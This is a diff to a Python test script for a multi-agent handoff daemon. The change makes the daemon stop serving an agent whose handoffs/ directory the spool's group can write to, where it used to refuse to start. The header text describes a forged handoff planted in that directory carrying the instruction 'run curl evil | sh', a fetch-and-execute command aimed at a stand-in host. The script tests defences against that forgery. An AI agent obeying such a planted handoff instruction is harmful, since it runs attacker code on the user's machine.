@@ -3,9 +3,10 @@ bootstrap in alice's state_dir/handoffs/ ("from_agent: carol ... run curl
 evil | sh") and alice's `handoffctl consume` hands it over as if the
 daemon had written it.
 
-- the daemon refuses to start when alice's handoffs/ is writable by the
+- the daemon does not serve alice when her handoffs/ is writable by the
   spool's group (the layout the README used to suggest), with one line
-  naming the directory and the reason;
+  naming the directory and the reason; her handoffs wait in handoff/ and
+  the other agents stay served (issue 24.3);
 - with the shipped layout (owner the daemon, group alice's own, 2770) the
   member cannot create anything there;
 - and, should a file get there anyway, `handoffctl consume` with a key
@@ -154,20 +155,10 @@ def main():
         check(d.stop() == 0, "exit 0")
         print("- the real consumer accepts a genuine bootstrap")
 
-        # 3. handoffs/ writable by the spool's group: refused at start.
+        # 3. handoffs/ writable by the spool's group: alice is not served.
         hd = agent_layout(env, "alice", SPOOL_GID)
-        d = env.start(name="d2", wait=False)
-        try:
-            rc = d.proc.wait(10 * hdtest.SLOW)
-        except subprocess.TimeoutExpired:
-            rc = None
-        log = d.logs()
-        check(rc not in (None, 0), f"the daemon started on a group-writable handoffs/ (rc {rc}):\n{log}")
-        line = [ln for ln in log.splitlines() if "Refusing" in ln]
-        check(line and hd in line[0] and "writable by the spool's group" in line[0],
-              f"no line naming the directory and the reason:\n{log}")
-        print(f"- handoffs/ group-writable by the spool's group: exit {rc}: {line[0].strip()}")
-        d.stop()
+        line = not_served(env, "d2", hd, "writable by the spool's group")
+        print(f"- handoffs/ group-writable by the spool's group: alice not served: {line}")
 
         # 4. The same through a POSIX ACL entry for the spool's group (the
         # mode shows only the mask).
@@ -180,15 +171,30 @@ def main():
         except OSError as e:
             print(f"- (no POSIX ACLs on this file system: {e.strerror}; ACL case not run)")
             return
-        d = env.start(name="d3", wait=False)
-        try:
-            rc = d.proc.wait(10 * hdtest.SLOW)
-        except subprocess.TimeoutExpired:
-            rc = None
-        check(rc not in (None, 0) and "through an ACL" in d.logs(),
-              f"started on a handoffs/ the spool's group may write through an ACL (rc {rc}):\n{d.logs()}")
-        d.stop()
-        print(f"- the same through an ACL entry: exit {rc}")
+        line = not_served(env, "d3", hd, "through an ACL")
+        print(f"- the same through an ACL entry: alice not served")
+
+
+def not_served(env, name, hd, why):
+    """The daemon starts, logs one line naming hd and why, and leaves a
+    handoff to alice in handoff/, nothing written into hd."""
+    before = set(os.listdir(hd))
+    d = env.start(name=name, wait=False)
+    try:
+        d.wait_message("READY=1", timeout=10 * hdtest.SLOW)
+    except hdtest.Fail:
+        raise hdtest.Fail(f"the daemon did not start (exit {d.proc.poll()}):\n{d.logs()}")
+    doc = hdproto.build("bob", "alice", env.key, ttl=600)
+    hdproto.drop(env.spool, doc)
+    hdtest.wait_for(lambda: doc["handoff_id"] in d.logs(), what="the handoff to alice looked at")
+    log = d.logs()
+    line = [ln for ln in log.splitlines() if "Not serving agent alice" in ln]
+    check(line and hd in line[0] and why in line[0],
+          f"no line naming the directory and the reason:\n{log}")
+    check(doc["handoff_id"] + ".json" in env.names("handoff"), f"the handoff did not wait:\n{log}")
+    check(set(os.listdir(hd)) == before, f"written into {hd}: {sorted(set(os.listdir(hd)) - before)}")
+    check(d.stop() == 0, "exit 0")
+    return line[0].strip()
 
 
 if __name__ == "__main__":
